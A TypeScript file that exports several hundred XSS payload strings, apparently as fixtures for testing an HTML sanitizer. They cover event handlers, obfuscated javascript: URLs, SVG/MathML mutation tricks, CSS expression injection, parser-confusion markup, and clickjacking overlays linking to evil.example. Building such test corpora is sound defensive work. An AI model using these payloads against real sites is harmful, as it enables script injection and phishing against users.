// Attacks on whoever shows foreign HTML, from the HTML standard's lists of elements and handlers and
// the kinds that the OWASP cheat sheets describe. Each is one dangerous thing.

const js = 'alert(1)';

// biome-ignore format: a list
const handlers = [
  'abort', 'activate', 'afterprint', 'afterscriptexecute', 'animationcancel', 'animationend',
  'animationiteration', 'animationstart', 'auxclick', 'beforecopy', 'beforecut', 'beforeinput',
  'beforematch', 'beforepaste', 'beforeprint', 'beforescriptexecute', 'beforetoggle', 'beforeunload',
  'begin', 'blur', 'bounce', 'cancel', 'canplay', 'canplaythrough', 'change', 'click', 'close',
  'command', 'contextlost', 'contextmenu', 'contextrestored', 'copy', 'cuechange', 'cut', 'dblclick',
  'drag', 'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop', 'durationchange',
  'emptied', 'end', 'ended', 'error', 'finish', 'focus', 'focusin', 'focusout', 'formdata',
  'fullscreenchange', 'gotpointercapture', 'hashchange', 'input', 'invalid', 'keydown', 'keypress',
  'keyup', 'languagechange', 'load', 'loadeddata', 'loadedmetadata', 'loadend', 'loadstart',
  'lostpointercapture', 'message', 'messageerror', 'mousedown', 'mouseenter', 'mouseleave',
  'mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel', 'offline', 'online', 'pagehide',
  'pagereveal', 'pageshow', 'pageswap', 'paste', 'pause', 'play', 'playing', 'pointercancel',
  'pointerdown', 'pointerenter', 'pointerleave', 'pointermove', 'pointerout', 'pointerover',
  'pointerrawupdate', 'pointerup', 'popstate', 'progress', 'propertychange', 'ratechange',
  'readystatechange', 'rejectionhandled', 'repeat', 'reset', 'resize', 'scroll', 'scrollend',
  'search', 'securitypolicyviolation', 'seeked', 'seeking', 'select', 'selectionchange',
  'selectstart', 'show', 'slotchange', 'stalled', 'start', 'storage', 'submit', 'suspend',
  'timeupdate', 'toggle', 'touchcancel', 'touchend', 'touchmove', 'touchstart', 'transitioncancel',
  'transitionend', 'transitionrun', 'transitionstart', 'unhandledrejection', 'unload',
  'volumechange', 'waiting', 'webkitanimationend', 'wheel',
];

// Elements that run, load, ask, navigate or change how what follows is read.
// biome-ignore format: a list
const elements = [
  'applet', 'base', 'basefont', 'bgsound', 'body', 'button', 'canvas', 'command', 'content',
  'datalist', 'dialog', 'embed', 'fencedframe', 'form', 'frame', 'frameset', 'head', 'html', 'iframe',
  'ilayer', 'input', 'isindex', 'keygen', 'label', 'layer', 'link', 'listing', 'map', 'area',
  'marquee', 'menuitem', 'meta', 'nextid', 'noembed', 'noframes', 'noscript', 'object', 'optgroup',
  'option', 'output', 'param', 'plaintext', 'portal', 'script', 'select', 'shadow', 'slot', 'style',
  'svg', 'template', 'textarea', 'title', 'x-custom', 'xml', 'xmp', 'xss',
];

// Inside SVG and MathML.
// biome-ignore format: a list
const foreign = [
  '<svg><script>alert(1)</script></svg>', '<svg><style>*{color:red}</style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>', '<svg><image href="javascript:alert(1)"/></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
  '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
  '<svg><desc><img src="x" onerror="alert(1)"></desc></svg>',
  '<svg><title><style><img src="x" onerror="alert(1)"></style></title></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src onerror=alert(1)>"></svg>',
  '<a href="https://evil.example/login"><svg viewBox="0 0 9 9" width="300" height="300" transform="scale(40)"><rect width="9" height="9"/><text>x</text></svg></a>',
  '<a href="https://evil.example/login"><svg viewBox="0 0 9 9" style="transform:scale(40);margin:-900px;overflow:visible" overflow="visible" x="-900" y="-900"><svg transform="scale(40)" x="-900" width="9999" height="9999"><text>x</text></svg></svg></a>',
  '<a href="https://evil.example/login"><math><mpadded voffset="300px" width="0" height="0"><mtext>Sign in</mtext></mpadded></math></a>',
  '<svg/onload=alert(1)>', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script><script>x</script>',
  '<math href="javascript:alert(1)">x</math>', '<math><mi xlink:href="data:x,1">x</mi></math>',
  '<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><mglyph><style><math><img src onerror=alert(1)></style>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style></mtext></svg></mglyph>',
  '<math><mi><table><malignmark><style><img src=x onerror=alert(1)></style></table></mi></math>',
  '<math><mrow><img src="x" onerror="alert(1)"></mrow></math>', '<math><script>alert(1)</script></math>',
  '<math onclick="alert(1)"><mi>x</mi></math>', '<math><mi style="position:fixed">x</mi></math>',
  '<math><semantics><mi>x</mi><annotation><a href="javascript:alert(1)">x</a></annotation></semantics></math>',
];

const colons = [':', '&colon;', '&#58;', '&#x3a;', '&#0000058', '\t:', '\n:', '&Tab;:'];
// biome-ignore format: a list
const schemes = [
  'javascript', 'JaVaScRiPt', 'vbscript', 'livescript', 'mocha', 'data', 'blob', 'filesystem',
  'file', 'about', 'view-source', 'ms-its', 'mhtml', 'wyciwyg', 'jar', 'resource', 'chrome',
  'jav\tascript', 'jav\nascript', 'jav\rascript', 'jav&#x09;ascript', 'jav&#x0A;ascript',
  
    'jav&#x0D;ascript',
    'jav&NewLine;ascript',
    ' javascript',
    '\u0001javascript',
    '&#14; javascript',

  
    '\u00A0javascript',
    '&#106;&#97;vascript',
    '&#x6A&#x61vascript',
    '&#0000106&#0000097vascript',

  'java\0script', 'feed:javascript', 'x-javascript', 'intent', 'ms-settings',
];

const addressed = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a href='${url}'>x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<video poster="${url}" src="${url}"><source src="${url}"></video>`,
  (url: string) => `<img srcset="${url} 1x, ${url} 2x" src="a.png">`,
  (url: string) => `<blockquote cite="${url}">x</blockquote>`,
  (url: string) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
];

const styles = [
  'background:url(javascript:alert(1))',
  'background-image:url("//x.example/count")',
  'width:expression(alert(1))',
  'width:exp/**/ression(alert(1))',
  'xss:e\\xpression(alert(1))',
  '-moz-binding:url(//x.example/x.xml#y)',
  'behavior:url(x.htc)',
  '@import "x.css"',
  'position:fixed;top:0;left:0;width:100%;height:100%',
  'position: absolute',
  'z-index:9999;position:sticky',
  'list-style:url(javascript:alert(1))',
  'content:url(x)',
  'cursor:url(x),auto',
  'background:\\75rl(javascript:alert(1))',
  'filter:progid:x(src=javascript:alert(1))',
  'color:red;background:u\\72l(x)',
  'background:image-set("x" 1x);position:fixed',
  'font-family:"</style><script>alert(1)</script>',
];

// biome-ignore format: a list
const broken = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>',
  '<script/xss src="//x.example/x.js"></script>', '<script\u000Csrc=x></script>',
  '<script src="//x.example/x.js?<b>', '<script>a=/x/\nalert(a)</script>', '<SCRIPT SRC=//x.example/.j>',
  '<script a=">" src="//x.example/x.js"></script>', '<script =">" src="x"></script>',
  '<script a=`>` src="x"></script>', '<script a=">\'>" src="x"></script>',
  '<script>document.write("<scri");</script>pt src="x"></script>', '</title><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><script>x</script>',
  '<!--><script>alert(1)</script>-->', '<!---><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>-->', '<!-- <script>alert(1)</script>', '<!-- a -- b --><script>x</script>',
  '<![if true]><script>alert(1)</script><![endif]>', '<![CDATA[<script>alert(1)</script>]]>',
  '<![CDATA[<!]]><script>alert(1)</script>', '<?xml-stylesheet href="javascript:alert(1)"?><script>x</script>',
  '<?import namespace="t" implementation="#default#time2"><script>x</script>', '<!DOCTYPE x [<!ENTITY y "z">]><script>x</script>',
  '<img src=x onerror=alert(1)', '<img src="x" onerror="alert(1)" x="', '<img """><script>alert(1)</script>">',
  '<img src=`x`onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<img \u000Bonerror=alert(1) src=x>',
  '<img src=x\0onerror=alert(1) onerror=alert(1)>', '<a href="https://x.example" x="\'" onclick=\'alert(1)\'>x</a>',
  '<a\u000Bhref="javascript:alert(1)" onclick=x>x</a>', '<a href=javascript:alert(1)//>x', '<a href="x" style=x:expression(alert(1)) onclick=y>',
  '\0<scr\0ipt>alert(1)</script>', '<s\0cript>alert(1)</script><script>x</script>', '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE<script>x</script>',
  '<p/onclick=alert(1)>', '<p\nonclick\n=\nalert(1)>', '<p onclick = "alert(1)" onclick="x">', '<p title="a" title="b" onclick=x>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<div datasrc="x" datafld="y" dataformatas="html" onclick=z>', '<div contenteditable autofocus onfocus=x>x</div>',
  '<a ping="//x.example/" href="https://y.example" target="_top">x</a>', '<a download="x.exe" href="data:x,y">x</a>',
  '<p is="x-evil" slot="y">x</p>', '<b tabindex=1 accesskey=x onfocus=alert(1)>x</b>', '<b popovertarget=x onclick=y>x</b>',
  '<p id="location">x</p>', '<img name="body" src="a.png">', '<form id="document"><input name="cookie"></form>',
  '<a id="defaultView" name="attributes" href="https://x.example">x</a>', '<img id=currentScript src=a.png name=forms>',
  '<a id=x><a id=x name=y href="https://x.example">', '<p class="modal open">x</p>', '<p class="fixed language-x">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">', '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<style><img title="</style><img src=x onerror=alert(1)>">', '<select><style></select><img src=x onerror=alert(1)></style>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<table><td><select><script>alert(1)</script></select>', '<form><form><input>', '<p><table><p><script>alert(1)</script>',
  '<a><table><a href="javascript:alert(1)">x', '<li><button><li onclick=alert(1)>', '<dfn><object data="javascript:alert(1)">',
  '<object type="text/x-scriptlet" data="//x.example/"></object>', '<object><param name="url" value="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" allowscriptaccess="always">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta http-equiv="set-cookie" content="a=b">', '<meta charset="utf-7">',
  '<link rel="stylesheet" href="javascript:alert(1)">', '<link rel=import href="data:text/html,x">', '<style>@import "//x.example/x.css";</style>',
  '<base href="javascript:alert(1)//"><a href="/x">x</a>', '<body background="javascript:alert(1)" onload=x>', '<input type="image" src="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1)">', '<br size="&{alert(1)}" onclick=x>', '<layer src="//x.example/x.html"></layer>', '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" onerror=x>',
  '<frameset><frame src="javascript:alert(1)"></frameset>', '<isindex type=image src=1 onerror=alert(1)>', '<details open ontoggle=alert(1)><summary onclick=x>x</summary></details>',
  '<video src=1 autoplay onloadstart=alert(1)>', '<audio autoplay src=x><source src=y onerror=alert(1)></audio>', '<track src="javascript:alert(1)" onload=x>',
  '<img usemap="#m" src=a.png><map name="m"><area href="javascript:alert(1)"></map>', '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
  '<p xml:base="javascript:alert(1)" onclick=x><a href="y">x</a></p>', '<a xlink:href="javascript:alert(1)" onclick=x>x</a>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
];

/** Some five hundred pieces of HTML that would do harm if shown as they are. */
export const attacks: string[] = [
  ...handlers.map((name) => `<p on${name}="${js}">x</p>`),
  ...handlers.slice(0, 12).map((name) => `<img/src=x ON${name.toUpperCase()} = ${js} >`),
  ...elements.map((name) => `<${name} src="${js}">x</${name}>`),
  ...elements.map((name) => `<${name.toUpperCase()}/x='y'><${name} onload=${js}>`),
  ...foreign,
  ...schemes.flatMap((scheme, n) => {
    const url = `${scheme}${colons[n % colons.length]}${js}`;
    return [0, 1, 2, 3, 4].map((step) => addressed[(n + step) % addressed.length]?.(url) ?? '');
  }),
  ...styles.map((style) => `<p style='${style}'>x</p>`),
  ...broken,
];
